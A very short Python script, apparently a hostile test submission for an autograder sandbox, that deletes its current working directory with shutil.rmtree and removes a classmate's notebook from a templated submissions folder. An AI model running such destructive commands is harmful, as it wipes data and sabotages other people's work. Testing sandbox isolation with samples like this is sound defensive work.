# Delete the run's folder and a classmate's submission.
import os
import shutil

shutil.rmtree(os.getcwd())
os.remove('@SUBMISSIONS@/a_solution.ipynb')
